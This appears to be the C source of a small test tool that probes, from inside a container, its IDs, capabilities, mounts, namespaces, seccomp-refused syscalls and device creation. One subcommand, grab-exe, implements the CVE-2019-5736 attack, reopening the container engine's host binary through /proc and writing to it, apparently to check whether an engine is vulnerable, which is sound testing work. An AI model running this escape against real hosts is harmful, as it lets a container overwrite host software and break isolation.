/*
 * probe: a small static tool for asserting, from inside a container, what the container sees.
 *
 * Each subcommand prints one value per line and exits 0 unless its description says otherwise.
 * Errors are printed as the errno name (EPERM, ENOENT, ...) so tests can compare exact strings.
 * Build: gcc -static -Os -o probe probe.c
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <limits.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <linux/keyctl.h>
#include <netinet/in.h>
#include <sys/ioctl.h>
#include <sys/personality.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <time.h>
#include <unistd.h>

extern char **environ;

static const char *errname(int err)
{
	const char *name = strerrorname_np(err);
	static char buf[32];
	if (name)
		return name;
	snprintf(buf, sizeof buf, "E%d", err);
	return buf;
}

/* Print every line of /proc/self/status that starts with one of the given prefixes. */
static int status_lines(const char *const *prefixes, int value_only)
{
	char line[512];
	int found = 0;
	FILE *f = fopen("/proc/self/status", "re");
	if (!f) {
		printf("%s\n", errname(errno));
		return 1;
	}
	while (fgets(line, sizeof line, f)) {
		for (const char *const *p = prefixes; *p; p++) {
			size_t n = strlen(*p);
			if (strncmp(line, *p, n) != 0 || line[n] != ':')
				continue;
			found = 1;
			fputs(value_only ? line + n + 1 + strspn(line + n + 1, " \t") : line, stdout);
		}
	}
	fclose(f);
	return found ? 0 : 1;
}

static int cmd_ids(void)
{
	gid_t groups[NGROUPS_MAX];
	int n = getgroups(NGROUPS_MAX, groups);
	printf("uid=%u gid=%u euid=%u egid=%u groups=", getuid(), getgid(), geteuid(), getegid());
	for (int i = 0; i < n; i++)
		printf("%s%u", i ? "," : "", groups[i]);
	printf("\n");
	return 0;
}

static int cmd_fds(void)
{
	DIR *d = opendir("/proc/self/fd");
	struct dirent *e;
	if (!d) {
		printf("%s\n", errname(errno));
		return 1;
	}
	while ((e = readdir(d))) {
		char path[64], target[PATH_MAX];
		int fd = atoi(e->d_name);
		if (e->d_name[0] == '.' || fd == dirfd(d))
			continue;
		snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
		ssize_t len = readlink(path, target, sizeof target - 1);
		target[len < 0 ? 0 : len] = '\0';
		printf("%d -> %s\n", fd, target);
	}
	closedir(d);
	return 0;
}

/* Field 5 of each /proc/self/mountinfo line is the mount point (proc(5)). */
static int cmd_mounts(void)
{
	char line[4096];
	FILE *f = fopen("/proc/self/mountinfo", "re");
	if (!f) {
		printf("%s\n", errname(errno));
		return 1;
	}
	while (fgets(line, sizeof line, f)) {
		char *field = strtok(line, " ");
		for (int i = 1; field && i < 5; i++)
			field = strtok(NULL, " ");
		if (field)
			printf("%s\n", field);
	}
	fclose(f);
	return 0;
}

/* try-unshare [NS...]: NS is user, mnt, uts, ipc, net, pid or cgroup; default "user mnt". */
static int cmd_try_unshare(int argc, char **argv)
{
	static const struct { const char *name; int flag; } kinds[] = {
		{ "user", CLONE_NEWUSER }, { "mnt", CLONE_NEWNS }, { "uts", CLONE_NEWUTS },
		{ "ipc", CLONE_NEWIPC }, { "net", CLONE_NEWNET }, { "pid", CLONE_NEWPID },
		{ "cgroup", CLONE_NEWCGROUP },
	};
	int flags = argc ? 0 : CLONE_NEWUSER | CLONE_NEWNS;
	for (int i = 0; i < argc; i++) {
		size_t k;
		for (k = 0; k < sizeof kinds / sizeof kinds[0]; k++)
			if (strcmp(argv[i], kinds[k].name) == 0)
				break;
		if (k == sizeof kinds / sizeof kinds[0]) {
			fprintf(stderr, "probe: unknown namespace %s\n", argv[i]);
			return 2;
		}
		flags |= kinds[k].flag;
	}
	printf("%s\n", unshare(flags) == 0 ? "ok" : errname(errno));
	return 0;
}

/*
 * try-syscall NAME: a call Docker's default seccomp profile refuses, harmless when it goes
 * through: keyctl (the ID of the session keyring; keys are not namespaced) or personality
 * (ADDR_NO_RANDOMIZE: address space randomization off). Prints "ok" or the errno name.
 */
static int cmd_try_syscall(const char *name)
{
	long r;
	if (!strcmp(name, "keyctl"))
		r = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0);
	else if (!strcmp(name, "personality"))
		r = personality(ADDR_NO_RANDOMIZE);
	else {
		fprintf(stderr, "probe: unknown call %s\n", name);
		return 2;
	}
	printf("%s\n", r >= 0 ? "ok" : errname(errno));
	return 0;
}

/* try-mknod PATH: create the char device 1:3 (/dev/null) and open it; report the failing step. */
static int cmd_try_mknod(const char *path)
{
	if (mknod(path, S_IFCHR | 0666, makedev(1, 3)) != 0) {
		printf("mknod: %s\n", errname(errno));
		return 0;
	}
	int fd = open(path, O_RDWR | O_CLOEXEC);
	if (fd < 0) {
		printf("open: %s\n", errname(errno));
		return 0;
	}
	close(fd);
	printf("ok\n");
	return 0;
}

static int cmd_read(const char *path)
{
	char buf[65536];
	ssize_t n;
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		printf("%s\n", errname(errno));
		return 1;
	}
	while ((n = read(fd, buf, sizeof buf)) > 0)
		fwrite(buf, 1, n, stdout);
	if (n < 0) {
		printf("%s\n", errname(errno));
		return 1;
	}
	close(fd);
	return 0;
}

static volatile sig_atomic_t caught;

static void on_signal(int sig)
{
	caught = sig;
}

/*
 * signals: wait for one of the usual stop signals, report it, then die of it the way a plain
 * program would. As the init of a PID namespace the kernel ignores a signal it sends itself
 * with the default action (pid_namespaces(7)), so fall back to the shell's 128+N.
 */
static int cmd_signals(void)
{
	static const int sigs[] = { SIGINT, SIGTERM, SIGHUP, SIGUSR1, SIGUSR2 };
	struct sigaction sa = { .sa_handler = on_signal };
	sigemptyset(&sa.sa_mask);
	for (size_t i = 0; i < sizeof sigs / sizeof sigs[0]; i++)
		sigaction(sigs[i], &sa, NULL);
	printf("ready\n");
	fflush(stdout);
	while (!caught)
		pause();
	int sig = caught;
	printf("got %d\n", sig);
	fflush(stdout);
	signal(sig, SIG_DFL);
	raise(sig);
	exit(128 + sig);
}

static int cmd_sleep(const char *arg)
{
	double secs = strtod(arg, NULL);
	struct timespec ts = { .tv_sec = (time_t)secs };
	ts.tv_nsec = (long)((secs - (double)ts.tv_sec) * 1e9);
	while (nanosleep(&ts, &ts) != 0 && errno == EINTR)
		;
	return 0;
}

/* Whether the first argument of process `pid` ends with `name`. */
static int argv0_ends_with(int pid, const char *name)
{
	char path[64], cmdline[PATH_MAX] = "";
	snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return 0;
	ssize_t n = read(fd, cmdline, sizeof cmdline - 1);
	close(fd);
	size_t len = n > 0 ? strlen(cmdline) : 0, want = strlen(name);
	return len >= want && strcmp(cmdline + len - want, name) == 0;
}

/*
 * grab-exe NAME SECONDS: the CVE-2019-5736 attack. Watch for a process of this container whose
 * first argument ends with NAME (the engine's process entering the container, before it execs
 * the command), keep its /proc/PID/exe open, then open that file for writing through
 * /proc/self/fd until that works or SECONDS pass (ETXTBSY while anything still runs it).
 * Opening another process's exe needs ptrace access: CAP_SYS_PTRACE, as an `exec --privileged`
 * process has, when that process is not dumpable. Prints "grabbed", then "wrote" after
 * appending to the file, or the errno that stopped it.
 */
static int cmd_grab_exe(const char *name, const char *secs)
{
	time_t end = time(NULL) + atoi(secs);
	int exe = -1;
	while (exe < 0 && time(NULL) < end) {
		DIR *dir = opendir("/proc");
		struct dirent *e;
		while (dir && exe < 0 && (e = readdir(dir))) {
			int pid = atoi(e->d_name);
			if (pid <= 1 || pid == getpid() || !argv0_ends_with(pid, name))
				continue;
			char path[64];
			snprintf(path, sizeof path, "/proc/%d/exe", pid);
			exe = open(path, O_PATH | O_CLOEXEC);
		}
		if (dir)
			closedir(dir);
	}
	if (exe < 0) {
		printf("nothing to grab\n");
		return 1;
	}
	printf("grabbed\n");
	fflush(stdout);
	char self[64];
	snprintf(self, sizeof self, "/proc/self/fd/%d", exe);
	for (;;) {
		int fd = open(self, O_WRONLY | O_APPEND | O_CLOEXEC);
		if (fd >= 0) {
			ssize_t n = write(fd, "#pwned\n", 7);
			printf(n == 7 ? "wrote\n" : "%s\n", errname(errno));
			return n == 7 ? 0 : 1;
		}
		if (errno != ETXTBSY || time(NULL) >= end) {
			printf("%s\n", errname(errno));
			return 1;
		}
		usleep(1000);
	}
}

static int cmd_winsize(void)
{
	struct winsize ws;
	if (ioctl(0, TIOCGWINSZ, &ws) != 0) {
		printf("%s\n", errname(errno));
		return 1;
	}
	printf("%u %u\n", ws.ws_row, ws.ws_col);
	return 0;
}

/* Echo every UDP datagram on PORT back to its sender (busybox has no UDP server applet). */
static int cmd_udp_echo(const char *arg)
{
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	struct sockaddr_in addr = { .sin_family = AF_INET, .sin_port = htons((unsigned short)atoi(arg)) };
	if (fd < 0 || bind(fd, (struct sockaddr *)&addr, sizeof(addr)) != 0) {
		printf("%s\n", errname(errno));
		return 1;
	}
	printf("ready\n");
	fflush(stdout);
	for (;;) {
		char buf[2048];
		struct sockaddr_in from;
		socklen_t len = sizeof(from);
		ssize_t n = recvfrom(fd, buf, sizeof(buf), 0, (struct sockaddr *)&from, &len);
		if (n >= 0)
			sendto(fd, buf, (size_t)n, 0, (struct sockaddr *)&from, len);
	}
}

static int usage(void)
{
	fprintf(stderr,
		"usage: probe pid|ppid|ids|hostname|cwd|env|caps|fds|mounts|signals|segv|winsize|isatty\n"
		"       probe status KEY | read PATH | try-mknod PATH | udp-echo PORT\n"
		"       probe try-unshare [user|mnt|uts|ipc|net|pid|cgroup ...] | exit N | sleep SECONDS\n"
		"       probe try-syscall keyctl|personality\n"
		"       probe grab-exe NAME SECONDS\n");
	return 2;
}

int main(int argc, char **argv)
{
	if (argc < 2)
		return usage();
	const char *cmd = argv[1];
	const char *arg = argc > 2 ? argv[2] : NULL;

	if (!strcmp(cmd, "pid"))
		return printf("%d\n", getpid()) < 0;
	if (!strcmp(cmd, "ppid"))
		return printf("%d\n", getppid()) < 0;
	if (!strcmp(cmd, "ids"))
		return cmd_ids();
	if (!strcmp(cmd, "hostname")) {
		char name[HOST_NAME_MAX + 1] = "";
		gethostname(name, sizeof name);
		return printf("%s\n", name) < 0;
	}
	if (!strcmp(cmd, "cwd")) {
		char cwd[PATH_MAX];
		return printf("%s\n", getcwd(cwd, sizeof cwd) ? cwd : errname(errno)) < 0;
	}
	if (!strcmp(cmd, "env")) {
		for (char **e = environ; *e; e++)
			printf("%s\n", *e);
		return 0;
	}
	if (!strcmp(cmd, "caps")) {
		static const char *const caps[] = { "CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", NULL };
		return status_lines(caps, 0);
	}
	if (!strcmp(cmd, "status") && arg) {
		const char *const key[] = { arg, NULL };
		return status_lines(key, 1);
	}
	if (!strcmp(cmd, "fds"))
		return cmd_fds();
	if (!strcmp(cmd, "mounts"))
		return cmd_mounts();
	if (!strcmp(cmd, "try-unshare"))
		return cmd_try_unshare(argc - 2, argv + 2);
	if (!strcmp(cmd, "try-syscall") && arg)
		return cmd_try_syscall(arg);
	if (!strcmp(cmd, "try-mknod") && arg)
		return cmd_try_mknod(arg);
	if (!strcmp(cmd, "read") && arg)
		return cmd_read(arg);
	if (!strcmp(cmd, "signals"))
		return cmd_signals();
	if (!strcmp(cmd, "segv")) {
		signal(SIGSEGV, SIG_DFL);
		*(volatile int *)0 = 1;
		abort();
	}
	if (!strcmp(cmd, "exit") && arg)
		return atoi(arg);
	if (!strcmp(cmd, "sleep") && arg)
		return cmd_sleep(arg);
	if (!strcmp(cmd, "grab-exe") && argc > 3)
		return cmd_grab_exe(arg, argv[3]);
	if (!strcmp(cmd, "udp-echo") && arg)
		return cmd_udp_echo(arg);
	if (!strcmp(cmd, "winsize"))
		return cmd_winsize();
	if (!strcmp(cmd, "isatty")) {
		printf("0=%s 1=%s 2=%s\n", isatty(0) ? "yes" : "no", isatty(1) ? "yes" : "no",
		       isatty(2) ? "yes" : "no");
		return 0;
	}
	return usage();
}
